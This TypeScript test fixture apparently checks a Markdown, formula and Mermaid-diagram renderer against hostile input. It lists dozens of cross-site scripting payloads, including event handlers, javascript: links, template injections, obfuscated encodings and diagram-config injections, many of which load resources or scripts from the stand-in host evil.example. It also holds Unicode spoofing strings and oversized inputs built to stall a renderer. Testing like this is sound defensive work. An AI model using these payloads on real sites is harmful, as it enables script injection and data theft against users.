/** Runs once it is anything but text. */
const run = 'window.__xss=1'
const beacon = (name: string) => `https://evil.example/${name}`

/** What a line may hold: it has to come out as the letters it is made of. */
const lines = [
  `<script>${run}</script>`,
  `<ScRiPt src=//evil.example/s.js></sCrIpT>`,
  `<img src=x onerror=${run}>`,
  `<img src=${beacon('img')}>`,
  `<image href=${beacon('image')}>`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src onerror=${run}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${run}">x</math>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object><embed src=${beacon('embed')}>`,
  `<link rel=stylesheet href=${beacon('css')}><style>@import '${beacon('import')}';</style>`,
  `<base href=https://evil.example/><meta http-equiv=refresh content="0;url=${beacon('refresh')}">`,
  `<form action=${beacon('form')}><button autofocus onfocus=${run}>`,
  `<input autofocus onfocus=${run}><select onfocus=${run}><textarea onfocus=${run}>`,
  `<details open ontoggle=${run}><video><source onerror=${run}></video><audio src onerror=${run}>`,
  `<body onload=${run}><marquee onstart=${run}>`,
  `<a href="javascript:${run}" onclick=${run}>here</a>`,
  `<p style="background:url(${beacon('style')})" onmouseover=${run}>`,
  `"><img src=x onerror=${run}>`,
  `' onmouseover='${run}' x='`,
  `" autofocus onfocus="${run}`,
  `\`\${${run}}\` {{constructor.constructor('${run}')()}} <%= ${run} %> #{${run}} {{=${run}}}`,
  `</title></textarea></style></script><img src=x onerror=${run}>`,
  `&lt;img src=x onerror=${run}&gt; &#60;script&#62;${run}&#60;/script&#62;`,
  `\u003cimg src=x onerror=${run}\u003e %3Cscript%3E${run}%3C/script%3E`,
  `<\u0001img src=x onerror=${run}> <img/\u000bsrc=x\u000conerror=${run}>`,
  `zero\u200bwidth\u200c\u200d\ufeff and tag \u{e0041}\u{e0042} letters`,
  `\u202egnp.exe and \u202ereversed to the end`,
  `\u2066an isolate \u2067in another, neither closed`,
  `\u202c\u2069closing what nobody opened`,
  `Z${'\u0300\u0316\u0489'.repeat(30)}algo`,
  `\ud83d\udc69\u200d\ud83d\ude80 ﷽ ${'\u0645\u0631\u062d\u0628\u0627'} < > & &lt; ' \\' \\ \\\\`,
]

/** What Markdown, formulas and diagrams would make of a text. */
const written = [
  `[link](javascript:${run}) [link](JaVaScRiPt:${run}) [link](java\tscript:${run}) [link](<javascript:${run}>)`,
  `[link](&#106;avascript:${run}) [link](javascript&colon;${run}) [link](\u0001javascript:${run})`,
  `[link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==) [link](vbscript:msgbox)`,
  `[link](file:///etc/passwd) [link](//evil.example) [link](/api/auth/sign-out) [link](blob:x) [link](about:blank)`,
  `[foreign](${beacon('link')}) <${beacon('auto')}> ${beacon('bare')} www.evil.example mail@evil.example`,
  `![picture](${beacon('p1.png')}) ![picture](<${beacon('p2.png')}> "title") ![](${beacon('p3.png')})`,
  `![by reference][p4] ![p5][] ![p6]\n\n[p4]: ${beacon('p4.png')}\n[p5]: ${beacon('p5.png')}\n[p6]: ${beacon('p6.svg')} 'x'`,
  `[![picture in a link](${beacon('p7.png')})](javascript:${run})`,
  `![x](data:image/svg+xml,<svg/onload=${run}>) ![x](javascript:${run}) ![x](x"onerror="${run})`,
  `[by reference][l1] [l1]\n\n[l1]: javascript:${run}`,
  `<javascript:${run}> <https://evil.example/"onclick="${run}>`,
  `note[^1]\n\n[^1]: [back](javascript:${run}) ![p8](${beacon('p8.png')})`,
  `| [a](javascript:${run}) | ![p9](${beacon('p9.png')}) |\n|---|---|\n| <img src=x onerror=${run}> | x |`,
  `# [heading](javascript:${run}) <img src=x onerror=${run}>`,
  `$\\href{javascript:${run}}{x}$ $\\url{javascript:${run}}$ $\\includegraphics{${beacon('tex.png')}}$`,
  `$$\\htmlStyle{background:url(${beacon('tex')})}{x} \\htmlData{x=1}{y} \\htmlId{root}{z} \\def\\a{\\a\\a}\\a$$`,
  `$\\text{<img src=x onerror=${run}>} \\unicode{x202e}$ \`<img src=x onerror=${run}>\``,
  `\`\`\`html\n<script>${run}</script><img src=${beacon('code.png')}>\n\`\`\``,
]

const diagrams = [
  `flowchart LR\n  A[one] --> B[two]\n  click A href "javascript:${run}"\n  click B call ${run}()`,
  `flowchart LR\n  A["<img src=x onerror=${run}>"] --> B["<a href='javascript:${run}'>x</a>"]`,
  `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\nflowchart LR\n  A[<b onclick=${run}>x</b>] --> B`,
  `%%{init: {"themeCSS": "* { background-image: url(${beacon('theme')}) }"}}%%\nflowchart LR\n  A --> B`,
  `%%{init: {"theme": "base", "themeVariables": {"fontFamily": "x; } @import url(${beacon('font')}); {"}}}%%\nflowchart LR\n  A --> B`,
  `---\nconfig:\n  themeCSS: "@import url(${beacon('config')});"\n---\nflowchart LR\n  A --> B`,
  `flowchart LR\n  A@{ img: "${beacon('node.png')}", label: "x" }`,
  `flowchart LR\n  A@{ "i\\x6dg": "${beacon('escaped.png')}", label: "x" }`,
  `flowchart LR\n  A --> B\n  style A fill:url(${beacon('fill')})`,
  `flowchart LR\n  A --> B\n  style A mask:url(${beacon('mask')})`,
  `flowchart LR\n  A["\`![x](${beacon('label.png')}) [y](javascript:${run})\`"] --> B`,
  `sequenceDiagram\n  link A: x @ javascript:${run}\n  A->>B: <svg onload=${run}>`,
  'graph LR\n  Harmless --> Last',
].map((text) => `\`\`\`mermaid\n${text}\n\`\`\``)

/** Nothing after these is Markdown any more. */
const unclosed = [`<!-- <script>${run}</script>`, `<style><script>${run}`]

const begin = 'Hostile'
export const payloadCount = lines.length + written.length + diagrams.length + unclosed.length

/** All of them where one line is shown, and where a text is. */
export const hostileLine = `${begin} ${lines.join(' ')} ${written.slice(0, 6).join(' ').replaceAll('\n', ' ')}`
export const hostileLines = [...lines, ...written].map((text) => `${begin} ${text.replaceAll('\n', ' ')}`)
export const hostileText = [begin, ...written, ...lines, ...unclosed].join('\n\n')
export const hostileNotes = [begin, ...written, ...diagrams, ...lines, ...unclosed].join('\n\n')

/** What a renderer may choke on. */
export const heavyTexts: [string, string][] = [
  ['3,000 nested quotes', '> '.repeat(3000)],
  ['20,000 brackets', '['.repeat(20_000)],
  ['2 MB of prose', 'All work and no play makes a dull page. '.repeat(52_000)],
  ['10,000 rows of a table', `| a | b |\n|---|---|\n${'| 1 | 2 |\n'.repeat(10_000)}`],
]
